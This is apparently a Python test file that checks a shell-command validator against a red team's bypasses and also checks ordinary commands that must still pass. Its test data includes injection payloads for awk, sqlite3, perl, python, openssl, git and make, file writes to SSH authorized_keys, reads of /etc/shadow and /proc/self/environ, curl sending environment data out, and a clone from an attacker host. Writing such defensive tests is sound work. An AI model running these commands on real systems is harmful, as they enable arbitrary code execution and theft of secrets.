"""The second red-team round's hits (against main on 2026-12-04), each refused by its class.

Every command here ran a program or wrote a file when the attacker tried it on a real system.
Validation never runs anything, so the programs are stand-ins on a temporary search path: no
test depends on what is installed. Beside the hits are ordinary uses that must still pass.
"""

from __future__ import annotations

import os

import pytest

from celery_jobs_ext.errors import ImproperlyConfigured, ShellCommandNotAllowed
from celery_jobs_ext.shell import check_environment, validate_command
from celery_jobs_ext.shell.environment import checked_environment_names
from tests.shell.helpers import make_programs

MARK = "/tmp/rt-marker/pwned"
PROGRAMS = [
    "awk", "gawk", "sqlite3", "perl", "python3", "curl", "openssl", "sotruss", "memusage",
    "dpkg-architecture", "debconf-apt-progress", "gpg-connect-agent", "git-shell", "git", "make",
    "xxd", "wget", "sed", "docker", "systemctl", "journalctl", "cat", "bash", "cmake",
]  # fmt: skip


@pytest.fixture(scope="module")
def search_path(tmp_path_factory: pytest.TempPathFactory) -> str:
    return str(make_programs(tmp_path_factory.mktemp("bin"), PROGRAMS))


def is_refused(
    command: str,
    allowed: list[str],
    search_path: str,
    env: dict[str, str] | None = None,
) -> bool:
    """Whether the task would refuse the message (command, then env)."""
    try:
        validate_command(command, allowed, denied_arguments={}, search_path=search_path)
        if env is not None:
            check_environment(env, [])
    except ShellCommandNotAllowed:
        return True
    return False


def passes(command: str, allowed: list[str], search_path: str) -> None:
    argv = validate_command(command, allowed, denied_arguments={}, search_path=search_path)
    assert os.path.basename(argv[0]) == command.split()[0]


# --- awk: a regex right after the ')' of if/while/for is a regex, not a division -------------------

AWK_REGEX_AFTER_HEADER = [
    """BEGIN { if (1) /"/; system("touch %s"); if (1) /"/ }""",
    """BEGIN { while (0) /"/; system("touch %s"); if (1) /"/ }""",
    """BEGIN { for (;0;) /"/; system("touch %s"); for (;0;) /"/ }""",
    """BEGIN { x["a"]; for (k in x) /"/; system("touch %s"); if (1) /"/ }""",
    """func f(){} BEGIN { if (1) /"/; system("touch %s") ; if (1) /"/ }""",
    """BEGIN { if (1) /"/; print "x" > "%s"; if (1) /"/ }""",
    """BEGIN { if (1) /"/; print "touch %s" | "sh"; if (1) /"/ }""",
]


@pytest.mark.parametrize("program", AWK_REGEX_AFTER_HEADER)
@pytest.mark.parametrize("name", ["awk", "gawk"])
def test_awk_regex_after_a_statement_header_is_read_as_a_regex(
    name: str, program: str, search_path: str
) -> None:
    assert is_refused(f"{name} '{program.replace('%s', MARK)}'", [name], search_path)


def test_awk_regex_after_a_statement_header_is_refused_under_a_rest_pattern(search_path: str) -> None:
    program = AWK_REGEX_AFTER_HEADER[0].replace("%s", MARK)
    command = f"awk '{program}' /etc/hostname"
    assert is_refused(command, ["awk ..."], search_path)


@pytest.mark.parametrize(
    "program",
    [
        "$3 > 10",
        "{ n++ } END { print n / 2 }",
        "{ print ($1) / 2 }",
        "/err/ { print $2 }",
        "{ if ($1 ~ /x/) print }",
        "{ n = split($0, p, /,/); print n }",
        "NR > 1 { t += $3 } END { print t / (NR - 1) }",
        "{ if ($3 > 0) print $1; else print $2 }",
    ],
)
def test_awk_ordinary_programs_still_pass(program: str, search_path: str) -> None:
    passes(f"awk '{program}' /var/log/app.log", ["awk"], search_path)


# --- sqlite3: SQL run from dot-command arguments or from strings ------------------------------------

SQLITE_SQL_FROM_STRINGS = [
    f"""sqlite3 :memory: ".parameter set @a writefile('{MARK}','x')" """,
    f"""sqlite3 -lookaside 1 2 :memory: ".parameter set @a writefile('{MARK}','x')" """,
    f"""sqlite3 :memory: "select sha3_query('select writefile(''{MARK}'',''q'')')" """,
    f"""sqlite3 :memory: "select sha3_query('attach ''{MARK}'' as x')" """,
    'sqlite3 :memory: "create table selftest(tno,op,cmd,ans); insert into selftest '
    f"values(1,'run','select writefile(''{MARK}'',''x'')','')\" .selftest",
]


@pytest.mark.parametrize("command", SQLITE_SQL_FROM_STRINGS)
def test_sqlite3_sql_run_from_strings_or_dot_commands_is_refused(command: str, search_path: str) -> None:
    assert is_refused(command, ["sqlite3"], search_path)


def test_sqlite3_sha3_query_is_refused_under_an_argument_pattern(search_path: str) -> None:
    command = """sqlite3 /srv/app.db "select sha3_query('select writefile(''pwned'',''x'')')" """
    assert is_refused(command, ["sqlite3 /srv/app.db *"], search_path)


def test_sqlite3_parameter_set_is_refused_under_a_rest_pattern(search_path: str) -> None:
    command = f"""sqlite3 /srv/app.db ".parameter set @a writefile('{MARK}','x')" """
    assert is_refused(command, ["sqlite3 /srv/app.db ..."], search_path)


@pytest.mark.parametrize(
    "command",
    [
        "sqlite3 app.db 'select count(*) from t'",
        "sqlite3 -header -csv app.db 'select upper(name), length(x) from t'",
        "sqlite3 app.db .schema",
        "sqlite3 app.db .dump",
        "sqlite3 app.db \"select 'drop' from t\"",
        "sqlite3 app.db 'with r as (select * from t) select count(*), max(a) from r'",
        "sqlite3 app.db 'select row_number() over (partition by a order by b) from t'",
        "sqlite3 app.db 'create index if not exists i on t(a)'",
        "sqlite3 app.db 'insert into t(a, b) values (1, datetime(\"now\"))'",
        "sqlite3 app.db 'select cast(a as text) from t where exists (select 1) and c not in (1, 2)'",
        "sqlite3 app.db \"select name from pragma_table_info('t')\"",
    ],
)
def test_sqlite3_ordinary_queries_still_pass(command: str, search_path: str) -> None:
    passes(command, ["sqlite3"], search_path)


# --- environment values as code, read back through /proc/self/environ ----------------------------

PERL_PAYLOAD = f"UTC\n#!perl\nsystem(q{{touch {MARK}}});\n__END__\n"


@pytest.mark.parametrize("variable", ["TZ", "NO_COLOR"])
def test_perl_cannot_read_code_from_the_environment(variable: str, search_path: str) -> None:
    assert is_refused("perl -x /proc/self/environ", ["perl"], search_path, env={variable: PERL_PAYLOAD})


def test_perl_x_with_a_directory_cannot_read_code_from_the_environment(search_path: str) -> None:
    assert is_refused("perl -x/tmp /proc/self/environ", ["perl"], search_path, env={"TZ": PERL_PAYLOAD})


def test_python_cannot_read_code_from_the_environment(search_path: str) -> None:
    env = {"TZ": f"UTC\nimport os;os.system('touch {MARK}')#"}
    assert is_refused("python3 -x /proc/self/environ", ["python3"], search_path, env=env)


@pytest.mark.parametrize("name", ["TZ", "NO_COLOR", "LANG", "TERM", "LC_ALL"])
def test_environment_values_with_newlines_are_refused(name: str) -> None:
    with pytest.raises(ShellCommandNotAllowed):
        check_environment({name: "UTC\nsystem(1)\n"}, [])


@pytest.mark.parametrize(
    "env",
    [
        {"TZ": "UTC; touch x"},
        {"TZ": "x" * 200},
        {"NO_COLOR": "import os"},
        {"COLUMNS": "١٢"},
        {"TERM": "é"},
    ],
)
def test_default_variables_take_only_their_grammar(env: dict[str, str]) -> None:
    with pytest.raises(ShellCommandNotAllowed):
        check_environment(env, [])


@pytest.mark.parametrize(
    "env",
    [
        {"TZ": "Europe/Paris"},
        {"TZ": "UTC"},
        {"TZ": ":America/New_York"},
        {"TZ": "EST5EDT,M3.2.0,M11.1.0"},
        {"TZ": "<+0330>-3:30"},
        {"NO_COLOR": "1"},
        {"NO_COLOR": ""},
        {"LANG": "en_US.UTF-8"},
        {"LC_ALL": "C"},
        {"TERM": "xterm-256color"},
        {"COLUMNS": "120"},
    ],
)
def test_ordinary_environment_values_still_pass(env: dict[str, str]) -> None:
    assert check_environment(env, []) == env


@pytest.mark.parametrize(
    "name",
    ["MAKEFLAGS", "GNUMAKEFLAGS", "MFLAGS", "MAKEFILES", "DOCKER_HOST", "VIMRUNTIME", "NODE_V8_COVERAGE"],
)
def test_variables_that_carry_options_or_hosts_are_never_passed(name: str) -> None:
    with pytest.raises(ImproperlyConfigured):
        checked_environment_names([name])
    with pytest.raises(ShellCommandNotAllowed):
        check_environment({name: "x"}, ["DOCKER_*", "NODE_*", name])


@pytest.mark.parametrize(
    "command, allowed",
    [
        ("cat /proc/self/environ", ["*"]),
        ("xxd /proc/1/environ", ["xxd"]),
        ("curl -d @/proc/self/environ https://example.com", ["curl"]),
        ("perl /dev/fd/0", ["perl"]),
        ("sed -n p /proc/thread-self/environ", ["sed"]),
        ("perl -x/proc/self/environ", ["perl"]),
        ("openssl enc -pass file:/proc/self/environ", ["openssl"]),
        ("cat ../../../proc/self/environ", ["cat"]),
    ],
)
def test_process_files_are_refused_as_arguments(command: str, allowed: list[str], search_path: str) -> None:
    assert is_refused(command, allowed, search_path)


def test_system_wide_proc_files_still_pass(search_path: str) -> None:
    passes("cat /proc/loadavg", ["cat"], search_path)
    passes("cat /proc/meminfo", ["cat"], search_path)


@pytest.mark.parametrize(
    "command, allowed",
    [
        (f"perl /usr/bin/debconf-apt-progress -- touch {MARK}", ["perl"]),
        (f"bash /usr/bin/xvfb-run touch {MARK}", ["bash"]),
        ("python3 /usr/bin/pip3 install https://example.com/x.tar.gz", ["python3"]),
        (f"python3 /usr/local/bin/../bin/pdb3 {MARK}", ["python3"]),
    ],
)
def test_interpreters_do_not_run_installed_programs(
    command: str, allowed: list[str], search_path: str
) -> None:
    assert is_refused(command, allowed, search_path)


# --- python: scripts of the standard library that evaluate their arguments -------------------------

PYTHON_LIBRARY_SCRIPTS = [
    f"""python3 /usr/lib/python3.11/timeit.py -n1 "__import__('os').system('touch {MARK}')" """,
    f"""python3 /usr/lib/python3.11/timeit.py -s "__import__('os').system('touch {MARK}')" pass""",
    f"python3 /usr/lib/python3.11/profile.py -o {MARK} /usr/lib/python3.11/this.py",
    f"python3 /usr/lib/python3.11/cProfile.py -o {MARK} /usr/lib/python3.11/this.py",
]


@pytest.mark.parametrize("command", PYTHON_LIBRARY_SCRIPTS)
def test_python_library_scripts_are_refused(command: str, search_path: str) -> None:
    assert is_refused(command, ["python3"], search_path)


@pytest.mark.parametrize(
    "script",
    [
        "/usr/local/lib/python3.12/pdb.py",
        "/usr/lib64/python3.9/trace.py",
        "/opt/venv/lib/python3.11/site-packages/x.py",
        "/srv/x/timeit.py",
    ],
)
def test_python_library_scripts_are_refused_wherever_the_library_is(script: str, search_path: str) -> None:
    assert is_refused(f"python3 {script} 1", ["python3"], search_path)


def test_python_application_scripts_still_pass(search_path: str) -> None:
    passes("python3 /srv/app/report.py --since 2026-01-01", ["python3"], search_path)


# --- curl: uploading writes wherever the URL points ------------------------------------------------

CURL_UPLOADS = [
    f"curl -sT /etc/hostname file://{MARK}",
    f"curl -s -T/etc/hostname file://{MARK}",
    f"curl -s --upload-fi /etc/hostname file://{MARK}",
    f"curl -s --upload-file /proc/self/cmdline file://{MARK}",
    f"curl -s -X PUT -T /etc/hostname file://{MARK}",
    f"curl -s -T - file://{MARK}",
    "curl -s -T /proc/self/environ file:///root/.ssh/authorized_keys",
]


@pytest.mark.parametrize("command", CURL_UPLOADS)
def test_curl_uploads_are_refused(command: str, search_path: str) -> None:
    assert is_refused(command, ["curl"], search_path)


def test_curl_file_urls_are_refused(search_path: str) -> None:
    assert is_refused("curl file:///etc/shadow", ["curl"], search_path)
    assert is_refused("curl --url FILE:///etc/shadow", ["curl"], search_path)


# --- openssl reads its options with one dash or two ------------------------------------------------

OPENSSL_DOUBLE_DASH = [
    f"openssl rand --out {MARK} 4",
    f"openssl rand --writerand {MARK} 4",
    "openssl req --config /proc/self/environ",
    "openssl dgst --engine x",
    "openssl dgst --provider-path /tmp --provider x",
    "openssl rehash /tmp/x",
    "openssl srp -srpvfile /tmp/x -add u",
]


@pytest.mark.parametrize("command", OPENSSL_DOUBLE_DASH)
def test_openssl_double_dash_spellings_are_refused(command: str, search_path: str) -> None:
    assert is_refused(command, ["openssl"], search_path)


def test_openssl_ordinary_uses_still_pass(search_path: str) -> None:
    passes("openssl rand -hex 16", ["openssl"], search_path)
    passes("openssl x509 -noout -text -in /etc/ssl/cert.pem", ["openssl"], search_path)


# --- programs that run the program named in their arguments ----------------------------------------

WRAPPERS = [
    f"sotruss touch {MARK}",
    f"memusage touch {MARK}",
    f"dpkg-architecture -c touch {MARK}",
    f"debconf-apt-progress -- touch {MARK}",
    f"gpg-connect-agent --exec touch {MARK}",
    f"git-shell -c 'touch {MARK}'",
]


@pytest.mark.parametrize("command", WRAPPERS)
@pytest.mark.parametrize("listed", ["any", "bare"])
def test_programs_that_run_a_command_are_refused(command: str, listed: str, search_path: str) -> None:
    allowed = ["*"] if listed == "any" else [command.split()[0]]
    assert is_refused(command, allowed, search_path)


# --- git and make: only in allowed directories ----------------------------------------------------


def test_git_remote_helper_glued_to_an_option_is_refused(search_path: str) -> None:
    assert is_refused(f"git -C /srv/repo archive --remote=ext::'touch {MARK}' HEAD", ["git"], search_path)


def test_git_cannot_clone_then_run_the_clone(search_path: str) -> None:
    assert is_refused("git clone https://attacker.example/x.git /tmp/clone", ["git"], search_path)
    assert is_refused("git -C /tmp/clone/evil status", ["git"], search_path)
    assert is_refused("git --git-dir=/tmp/clone/evil ls-remote ssh://127.0.0.1/x", ["git"], search_path)
    assert is_refused("git -C clone/evil status", ["git"], search_path)
    assert is_refused("git --work-tree=/tmp/clone status", ["git"], search_path)
    assert is_refused("git --bare ls-remote ssh://127.0.0.1/x", ["git"], search_path)
    assert is_refused("git clone https://example.com/x.git ../x", ["git"], search_path)
    assert is_refused("git clone --separate-git-dir=/tmp/g https://example.com/x.git", ["git"], search_path)
    passes("git clone https://example.com/x.git", ["git"], search_path)
    passes("git clone --depth 1 https://example.com/x.git x", ["git"], search_path)


def test_make_cannot_change_to_another_directory(search_path: str) -> None:
    assert is_refused("make -C /tmp/clone", ["make"], search_path)
    assert is_refused("make --directory=/tmp/clone", ["make"], search_path)


@pytest.mark.parametrize(
    "command", ["cmake -E env touch x", "cmake -P /tmp/x.cmake", "cmake --build /tmp/clone"]
)
def test_cmake_cannot_run_commands_or_build_another_directory(command: str, search_path: str) -> None:
    assert is_refused(command, ["cmake"], search_path)


def test_git_and_make_in_a_pinned_directory_still_pass(search_path: str) -> None:
    passes("git -C /srv/repo status", ["git -C /srv/repo status"], search_path)
    passes("git log --oneline", ["git"], search_path)
    passes("make -n", ["make"], search_path)


# --- output operands -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command, allowed",
    [
        (f"xxd -r /proc/self/environ {MARK}", ["xxd"]),
        (f"xxd /etc/hostname {MARK}", ["xxd"]),
        (f"xxd -r /etc/hostname {MARK}", ["xxd"]),
        ("wget --spider -r http://127.0.0.1:8000/", ["wget"]),
    ],
)
def test_output_operands_are_refused(command: str, allowed: list[str], search_path: str) -> None:
    assert is_refused(command, allowed, search_path)


def test_xxd_to_standard_output_still_passes(search_path: str) -> None:
    passes("xxd -l 64 /srv/data.bin", ["xxd"], search_path)


# --- service CLIs listed bare ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "docker cp c:/etc/shadow /tmp/x",
        "docker run --rm alpine sh",
        "docker exec c sh",
        "docker save -o /tmp/x img",
        "docker --config /tmp/x ps",
        "systemctl link /tmp/x.service",
        "systemctl set-environment LD_PRELOAD=/tmp/x.so",
        "systemctl edit x",
        "journalctl --update-catalog",
        "journalctl --directory /tmp/x",
    ],
)
def test_service_clis_listed_bare_refuse_what_writes_or_runs(command: str, search_path: str) -> None:
    assert is_refused(command, [command.split()[0]], search_path)


@pytest.mark.parametrize(
    "command",
    [
        "docker ps",
        "docker logs web",
        "systemctl is-active nginx",
        "systemctl status nginx",
        "journalctl -n 50",
    ],
)
def test_service_clis_read_only_uses_still_pass(command: str, search_path: str) -> None:
    passes(command, [command.split()[0]], search_path)


# --- false refusals of round 2 ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "command, allowed",
    [
        ("curl -sS -o /dev/null -w '%{http_code}' https://example.com", ["curl"]),
        ("wget -qO /dev/null https://example.com", ["wget"]),
        ("sed 's/a/b/w /dev/stdout' /srv/f", ["sed"]),
    ],
)
def test_writing_to_dev_null_or_stdout_is_allowed(command: str, allowed: list[str], search_path: str) -> None:
    passes(command, allowed, search_path)
